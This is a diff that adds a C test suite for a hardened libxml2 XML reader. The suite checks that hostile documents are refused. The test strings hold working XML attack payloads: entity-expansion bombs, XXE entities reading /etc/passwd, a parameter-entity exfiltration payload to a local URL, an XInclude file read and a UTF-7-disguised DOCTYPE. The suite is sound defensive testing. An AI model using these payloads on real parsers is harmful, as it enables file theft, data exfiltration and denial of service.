@@ -1,0 +1,475 @@
+/*
+ * check_xmlsafe.c - the hardened XML reader against hostile documents:
+ * entity expansion (billion laughs, quadratic blow-up), external entities
+ * (file and http), external DTDs, parameter entities, XInclude, deep
+ * nesting, other encodings, NUL bytes, malformed and oversized input.
+ *
+ * Every test runs with an external-entity loader that counts its calls and
+ * refuses them, so "no file was read" is checked, not assumed; a control
+ * test shows the counter does see the loads plain libxml2 would make.
+ */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include <libxml/parser.h>
+#include <libxml/parserInternals.h>
+#include <libxml/xmlerror.h>
+
+#include "xml/xmlsafe.h"
+
+#define DOCTYPE_MSG "DOCTYPE declarations are not accepted (entities and DTDs are refused); expected a plain XML document"
+#define NOT_UTF8_MSG "t.xml:1: not UTF-8 (a UTF-16 or UTF-32 document); expected UTF-8"
+
+static int loads; /* calls of the external-entity loader */
+
+static xmlParserInputPtr counting_loader(const char *url, const char *id, xmlParserCtxtPtr ctxt)
+{
+	(void)url;
+	(void)id;
+	(void)ctxt;
+	loads++;
+	return NULL;
+}
+
+static void quiet(void *data, xmlErrorPtr e)
+{
+	(void)data;
+	(void)e;
+}
+
+/* Each test runs in its own process (CK_FORK): harden first, so that
+ * xmlsafe's own refusing loader is installed, then put the counter over it. */
+static void setup(void)
+{
+	xmlDocPtr doc;
+
+	ck_assert_int_eq(ord_xml_parse(&doc, "<r/>", 4, "setup"), 0);
+	xmlFreeDoc(doc);
+	xmlSetExternalEntityLoader(counting_loader);
+	loads = 0;
+}
+
+/* Parse len bytes as "t.xml"; expect ORD_EBADDATA, exactly msg, no load. */
+static void refused_len(const char *xml, size_t len, const char *msg)
+{
+	xmlDocPtr doc = (xmlDocPtr)1;
+	int rc = ord_xml_parse(&doc, xml, len, "t.xml");
+
+	ck_assert_msg(rc == ORD_EBADDATA, "rc %d for %.60s", rc, xml);
+	ck_assert_ptr_null(doc);
+	ck_assert_str_eq(ord_error_last(), msg);
+	ck_assert_int_eq(loads, 0);
+}
+
+static void refused(const char *xml, const char *msg)
+{
+	refused_len(xml, strlen(xml), msg);
+}
+
+/* The same, comparing only the start of the message (libxml2 may add more). */
+static void refused_prefix(const char *xml, const char *msg)
+{
+	xmlDocPtr doc;
+	int rc = ord_xml_parse(&doc, xml, strlen(xml), "t.xml");
+
+	ck_assert_int_eq(rc, ORD_EBADDATA);
+	ck_assert_msg(!strncmp(ord_error_last(), msg, strlen(msg)), "got: %s", ord_error_last());
+	ck_assert_int_eq(loads, 0);
+}
+
+static void accepted_len(const char *xml, size_t len)
+{
+	xmlDocPtr doc = NULL;
+	int rc = ord_xml_parse(&doc, xml, len, "t.xml");
+
+	ck_assert_msg(rc == 0, "%s", ord_error_last());
+	ck_assert_ptr_nonnull(doc);
+	xmlFreeDoc(doc);
+	ck_assert_int_eq(loads, 0);
+}
+
+static void accepted(const char *xml)
+{
+	accepted_len(xml, strlen(xml));
+}
+
+/* n nested <a> elements, one per line starting on line 1. */
+static char *nested(int n)
+{
+	struct ord_buf b = ORD_BUF_INIT;
+	int i;
+
+	for (i = 0; i < n; i++)
+		ord_buf_adds(&b, "<a>\n");
+	for (i = 0; i < n; i++)
+		ord_buf_adds(&b, "</a>");
+	return ord_buf_detach(&b, NULL);
+}
+
+/* ---- ordinary documents --------------------------------------------- */
+
+START_TEST(test_parse_and_helpers)
+{
+	static const char xml[] = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
+				  "<r a=\"1 &amp; 2\">\n <c>x &amp; y</c>\n <!-- note -->\n <d/>\n <c/>\n</r>\n";
+	xmlDocPtr doc;
+	xmlNodePtr root, c;
+	char *s;
+
+	ck_assert_int_eq(ord_xml_parse(&doc, xml, strlen(xml), "t.xml"), 0);
+	root = xmlDocGetRootElement(doc);
+	s = ord_xml_attr(root, "a");
+	ck_assert_str_eq(s, "1 & 2");
+	free(s);
+	ck_assert_ptr_null(ord_xml_attr(root, "b"));
+	c = ord_xml_child(root, "c");
+	ck_assert_ptr_nonnull(c);
+	ck_assert_int_eq(xmlGetLineNo(c), 3);
+	s = ord_xml_text(c);
+	ck_assert_str_eq(s, "x & y");
+	free(s);
+	ck_assert_str_eq((const char *)ord_xml_next(c->next, NULL)->name, "d");
+	c = ord_xml_next(c->next, "c");
+	ck_assert_int_eq(xmlGetLineNo(c), 6);
+	s = ord_xml_text(c);
+	ck_assert_str_eq(s, "");
+	free(s);
+	ck_assert_ptr_null(ord_xml_next(c->next, "c"));
+	ck_assert_ptr_null(ord_xml_child(NULL, "c"));
+	xmlFreeDoc(doc);
+
+	/* a UTF-8 byte order mark and single-quoted UTF-8 are fine */
+	accepted("\xEF\xBB\xBF<?xml version='1.0' encoding='UTF-8'?><r>\xC3\xA9</r>");
+	accepted("  \n<r/>");
+	ck_assert_int_eq(loads, 0);
+}
+END_TEST
+
+START_TEST(test_malformed)
+{
+	refused_prefix("<r>\n<a>\n</b></r>", "t.xml:3: Opening and ending tag mismatch: a line 2 and b");
+	refused("", "t.xml:1: Document is empty");
+	refused("<r>&#0;</r>", "t.xml:1: xmlParseCharRef: invalid xmlChar value 0");
+	refused_prefix("<r>\n\n<a b=1/></r>", "t.xml:3: AttValue: \" or ' expected");
+	refused("<r>\xC3</r>",
+		"t.xml:1: Input is not proper UTF-8, indicate encoding !\nBytes: 0xC3 0x3C 0x2F 0x72");
+}
+END_TEST
+
+/* ---- entities and DTDs ---------------------------------------------- */
+
+START_TEST(test_billion_laughs)
+{
+	refused("<?xml version=\"1.0\"?>\n"
+		"<!DOCTYPE lolz [\n"
+		" <!ENTITY lol \"lol\">\n"
+		" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
+		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
+		" <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
+		" <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
+		" <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
+		" <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
+		" <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
+		" <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
+		" <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
+		"]>\n<lolz>&lol9;</lolz>\n",
+		"t.xml:2: " DOCTYPE_MSG);
+}
+END_TEST
+
+START_TEST(test_quadratic_blowup)
+{
+	struct ord_buf b = ORD_BUF_INIT;
+	int i;
+
+	ord_buf_adds(&b, "<?xml version=\"1.0\"?>\n\n<!DOCTYPE r [<!ENTITY a \"");
+	for (i = 0; i < 100000; i++)
+		ord_buf_addch(&b, 'a');
+	ord_buf_adds(&b, "\">]>\n<r>");
+	for (i = 0; i < 100000; i++)
+		ord_buf_adds(&b, "&a;");
+	ord_buf_adds(&b, "</r>\n");
+	refused(b.buf, "t.xml:3: " DOCTYPE_MSG);
+	ord_buf_release(&b);
+}
+END_TEST
+
+START_TEST(test_external_entity_file)
+{
+	char path[] = "/tmp/ord_xmlsafe_XXXXXX", xml[512];
+	int fd = mkstemp(path);
+
+	/* a file that exists, with a marker that must never reach the message */
+	ck_assert_int_ge(fd, 0);
+	ck_assert_int_eq(write(fd, "SECRET-MARKER\n", 14), 14);
+	close(fd);
+	snprintf(xml, sizeof(xml),
+		 "<?xml version=\"1.0\"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file://%s\"> ]>\n<r>&xxe;</r>",
+		 path);
+	refused(xml, "t.xml:2: " DOCTYPE_MSG);
+	ck_assert_ptr_null(strstr(ord_error_last(), "SECRET"));
+	refused("<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<r>&xxe;</r>",
+		"t.xml:1: " DOCTYPE_MSG);
+	/* attribute values too */
+	refused("<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n<r a=\"&xxe;\"/>",
+		"t.xml:1: " DOCTYPE_MSG);
+	unlink(path);
+}
+END_TEST
+
+START_TEST(test_external_entity_http)
+{
+	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"http://127.0.0.1:9/x\"> ]>\n<r>&xxe;</r>",
+		"t.xml:2: " DOCTYPE_MSG);
+	refused("<!DOCTYPE r [ <!ENTITY xxe PUBLIC \"-//x//EN\" \"https://example.invalid/x\"> ]><r>&xxe;</r>",
+		"t.xml:1: " DOCTYPE_MSG);
+}
+END_TEST
+
+START_TEST(test_external_dtd)
+{
+	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"http://127.0.0.1:9/r.dtd\">\n<r/>",
+		"t.xml:2: " DOCTYPE_MSG);
+	refused("<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>", "t.xml:1: " DOCTYPE_MSG);
+	refused("<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
+		"\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><r/>",
+		"t.xml:1: " DOCTYPE_MSG);
+}
+END_TEST
+
+START_TEST(test_parameter_entities)
+{
+	refused("<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n"
+		" <!ENTITY % file SYSTEM \"file:///etc/passwd\">\n"
+		" <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
+		" %eval;\n %exfil;\n]>\n<r/>",
+		"t.xml:2: " DOCTYPE_MSG);
+	refused("<!DOCTYPE r [<!ENTITY % pe SYSTEM \"http://127.0.0.1:9/x.dtd\"> %pe;]><r/>",
+		"t.xml:1: " DOCTYPE_MSG);
+}
+END_TEST
+
+START_TEST(test_entities_without_doctype)
+{
+	/* undeclared: a well-formedness error, nothing looked up */
+	refused("<r>\n&xxe;</r>", "t.xml:2: Entity 'xxe' not defined");
+	refused("<r>\n\n<!ENTITY x \"y\"></r>", "t.xml:3: entity declarations are not accepted");
+	/* the five predefined entities and character references are plain text */
+	accepted("<r>&lt;&gt;&amp;&apos;&quot;&#233;&#xE9;</r>");
+}
+END_TEST
+
+/* ---- XInclude ------------------------------------------------------- */
+
+START_TEST(test_xinclude)
+{
+	refused("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">\n"
+		"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
+		"t.xml:1: XInclude is not accepted");
+	refused("<r>\n<xi:include xmlns:xi=\"http://www.w3.org/2003/XInclude\" href=\"http://127.0.0.1:9/\"/></r>",
+		"t.xml:2: XInclude is not accepted");
+	/* the namespace spelt with character references gets past the byte
+	 * scan; the tree check still finds the element */
+	refused("<r xmlns:xi=\"http&#58;//www.w3.org/2001/XInclude\">\n"
+		"<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></r>",
+		"t.xml:2: XInclude is not accepted");
+}
+END_TEST
+
+/* ---- size and depth ------------------------------------------------- */
+
+START_TEST(test_deep_nesting)
+{
+	struct ord_buf b = ORD_BUF_INIT;
+	char *xml;
+	int i;
+
+	/* 10,000 levels: libxml2 stops at its own limit, in our words */
+	for (i = 0; i < 10000; i++)
+		ord_buf_adds(&b, "<a>");
+	for (i = 0; i < 10000; i++)
+		ord_buf_adds(&b, "</a>");
+	refused(b.buf, "t.xml:1: elements nested deeper than 64 levels");
+	ord_buf_release(&b);
+
+	/* our own limit: 64 levels are fine, the 65th is refused on its line */
+	xml = nested(ORD_XML_MAX_DEPTH);
+	accepted(xml);
+	free(xml);
+	xml = nested(ORD_XML_MAX_DEPTH + 1);
+	refused(xml, "t.xml:65: elements nested deeper than 64 levels");
+	free(xml);
+}
+END_TEST
+
+START_TEST(test_oversize)
+{
+	size_t len = ORD_XML_MAX_BYTES + 1;
+	char *big = ord_xmalloc(len);
+
+	memset(big, ' ', len);
+	memcpy(big, "<r>", 3);
+	memcpy(big + len - 4, "</r>", 4);
+	refused_len(big, len, "t.xml: document of 16777217 bytes is larger than the limit of 16777216 bytes");
+	free(big);
+}
+END_TEST
+
+/* ---- encodings and bytes -------------------------------------------- */
+
+START_TEST(test_utf16_and_utf32)
+{
+	static const char le_bom[] = "\xFF\xFE<\0r\0/\0>\0";
+	static const char be_bom[] = "\xFE\xFF\0<\0r\0/\0>";
+	static const char le[] = "<\0?\0x\0m\0l\0 \0v\0e\0r\0s\0i\0o\0n\0=\0\"\0001\0.\0000\0\"\0?\0>\0<\0r\0/\0>\0";
+	static const char be[] = "\0<\0r\0/\0>";
+	static const char utf32[] = "\0\0\0<\0\0\0r\0\0\0/\0\0\0>";
+
+	refused_len(le_bom, sizeof(le_bom) - 1, NOT_UTF8_MSG);
+	refused_len(be_bom, sizeof(be_bom) - 1, NOT_UTF8_MSG);
+	refused_len(le, sizeof(le) - 1, NOT_UTF8_MSG);
+	refused_len(be, sizeof(be) - 1, NOT_UTF8_MSG);
+	refused_len(utf32, sizeof(utf32) - 1, NOT_UTF8_MSG);
+}
+END_TEST
+
+START_TEST(test_encoding_declarations)
+{
+	refused("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n<r>\xE9</r>",
+		"t.xml:1: encoding 'ISO-8859-1' is not accepted; expected UTF-8");
+	refused("<?xml version=\"1.0\" encoding='windows-1252'?><r/>",
+		"t.xml:1: encoding 'windows-1252' is not accepted; expected UTF-8");
+	/* declared UTF-16 over 8-bit bytes */
+	refused("<?xml version=\"1.0\" encoding=\"UTF-16\"?><r/>",
+		"t.xml:1: encoding 'UTF-16' is not accepted; expected UTF-8");
+	/* UTF-7 would hide a DOCTYPE from the byte scan: refused before parsing */
+	refused("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n"
+		"+ADw-+ACE-DOCTYPE r +AFs-+ADw-+ACE-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n"
+		"<r>&xxe;</r>",
+		"t.xml:1: encoding 'UTF-7' is not accepted; expected UTF-8");
+	/* EBCDIC, recognised by libxml2 from the first bytes: <?xml version="1.0" encoding="IBM037"?><r/> */
+	refused("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x40"
+		"\x85\x95\x83\x96\x84\x89\x95\x87\x7e\x7f\xc9\xc2\xd4\xf0\xf3\xf7\x7f\x6f\x6e"
+		"\x4c\x99\x61\x6e",
+		"t.xml:1: does not start with '<'; expected an XML document in UTF-8");
+	refused("junk<r/>", "t.xml:1: does not start with '<'; expected an XML document in UTF-8");
+}
+END_TEST
+
+START_TEST(test_nul_byte)
+{
+	static const char xml[] = "<r>\n<a>x</a>\n<a>\0</a>\n</r>";
+
+	refused_len(xml, sizeof(xml) - 1, "t.xml:3: contains a NUL byte; expected UTF-8 text");
+}
+END_TEST
+
+/* ---- validation ----------------------------------------------------- */
+
+START_TEST(test_load_and_validate)
+{
+	static const char ok[] = "<scenario ruleset=\"battalion\"><title>T</title>"
+				 "<side id=\"a\" name=\"A\"/><side id=\"b\" name=\"B\"/>"
+				 "<unit id=\"U\" name=\"U\" side=\"a\" kind=\"line_infantry\"/></scenario>";
+	static const char wrong_root[] = "<?xml version=\"1.0\"?>\n<game ruleset=\"battalion\"/>";
+	xmlDocPtr doc;
+
+	ck_assert_int_eq(ord_xml_load(&doc, ok, strlen(ok), "t.xml", "schema/scenario.rng"), 0);
+	ck_assert_ptr_nonnull(doc);
+	xmlFreeDoc(doc);
+	ck_assert_int_eq(ord_xml_load(&doc, wrong_root, strlen(wrong_root), "t.xml", "schema/scenario.rng"),
+			 ORD_EBADDATA);
+	ck_assert_ptr_null(doc);
+	ck_assert_str_eq(ord_error_last(), "t.xml:2: Expecting element scenario, got game");
+	/* hostile input is refused by the parse, before any schema */
+	ck_assert_int_eq(ord_xml_load(&doc, "<!DOCTYPE scenario SYSTEM \"file:///etc/passwd\"><scenario/>", 58,
+				      "t.xml", "schema/scenario.rng"),
+			 ORD_EBADDATA);
+	ck_assert_str_eq(ord_error_last(), "t.xml:1: " DOCTYPE_MSG);
+
+	ck_assert_int_eq(ord_xml_parse(&doc, ok, strlen(ok), "t.xml"), 0);
+	ck_assert_int_eq(ord_xml_validate(doc, "schema/none.rng", "t.xml"), ORD_ERROR);
+	ck_assert_str_eq(ord_error_last(), "schema 'schema/none.rng' is not built in");
+	xmlFreeDoc(doc);
+
+	ck_assert_int_eq(ord_xml_load_file(&doc, "/nonexistent/scenario.xml", "schema/scenario.rng"),
+			 ORD_ENOTFOUND);
+	ck_assert_int_eq(loads, 0);
+}
+END_TEST
+
+START_TEST(test_hostile_fixtures)
+{
+	static const char *const files[] = {
+		"hostile-billion-laughs.xml", "hostile-xxe-file.xml", "hostile-xxe-http.xml",
+		"hostile-external-dtd.xml", "hostile-parameter-entity.xml", "hostile-xinclude.xml",
+		"hostile-latin1.xml", "hostile-utf7.xml", "hostile-utf16.xml", "hostile-nul.xml",
+	};
+	char path[4096];
+	xmlDocPtr doc;
+	size_t i;
+
+	for (i = 0; i < ORD_ARRAY_SIZE(files); i++) {
+		snprintf(path, sizeof(path), "%s/tests/fixtures/scenario/%s", ORD_SOURCE_DIR, files[i]);
+		ck_assert_msg(ord_xml_load_file(&doc, path, "schema/scenario.rng") == ORD_EBADDATA,
+			      "%s accepted", files[i]);
+		ck_assert_msg(!strncmp(ord_error_last(), path, strlen(path)), "%s", ord_error_last());
+	}
+	ck_assert_int_eq(loads, 0);
+}
+END_TEST
+
+/* The counter is worth trusting: plain libxml2, asked to substitute
+ * entities and load DTDs, does call it for the same documents. */
+START_TEST(test_loader_control)
+{
+	static const char xxe[] = "<!DOCTYPE r [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]><r>&xxe;</r>";
+	static const char dtd[] = "<!DOCTYPE r SYSTEM \"file:///etc/passwd\"><r/>";
+	xmlDocPtr doc;
+
+	xmlSetStructuredErrorFunc(NULL, quiet);
+	doc = xmlReadMemory(xxe, (int)strlen(xxe), "t.xml", NULL, XML_PARSE_NOENT | XML_PARSE_NONET);
+	xmlFreeDoc(doc);
+	ck_assert_int_ge(loads, 1);
+	loads = 0;
+	doc = xmlReadMemory(dtd, (int)strlen(dtd), "t.xml", NULL, XML_PARSE_DTDLOAD | XML_PARSE_NONET);
+	xmlFreeDoc(doc);
+	ck_assert_int_ge(loads, 1);
+	xmlSetStructuredErrorFunc(NULL, NULL);
+}
+END_TEST
+
+Suite *ord_test_suite(void)
+{
+	Suite *s = suite_create("xmlsafe");
+	TCase *plain = tcase_create("plain");
+	TCase *hostile = tcase_create("hostile");
+
+	tcase_add_checked_fixture(plain, setup, NULL);
+	tcase_add_test(plain, test_parse_and_helpers);
+	tcase_add_test(plain, test_malformed);
+	tcase_add_test(plain, test_load_and_validate);
+	tcase_add_test(plain, test_loader_control);
+	suite_add_tcase(s, plain);
+
+	tcase_add_checked_fixture(hostile, setup, NULL);
+	tcase_add_test(hostile, test_billion_laughs);
+	tcase_add_test(hostile, test_quadratic_blowup);
+	tcase_add_test(hostile, test_external_entity_file);
+	tcase_add_test(hostile, test_external_entity_http);
+	tcase_add_test(hostile, test_external_dtd);
+	tcase_add_test(hostile, test_parameter_entities);
+	tcase_add_test(hostile, test_entities_without_doctype);
+	tcase_add_test(hostile, test_xinclude);
+	tcase_add_test(hostile, test_deep_nesting);
+	tcase_add_test(hostile, test_oversize);
+	tcase_add_test(hostile, test_utf16_and_utf32);
+	tcase_add_test(hostile, test_encoding_declarations);
+	tcase_add_test(hostile, test_nul_byte);
+	tcase_add_test(hostile, test_hostile_fixtures);
+	suite_add_tcase(s, hostile);
+	return s;
+}
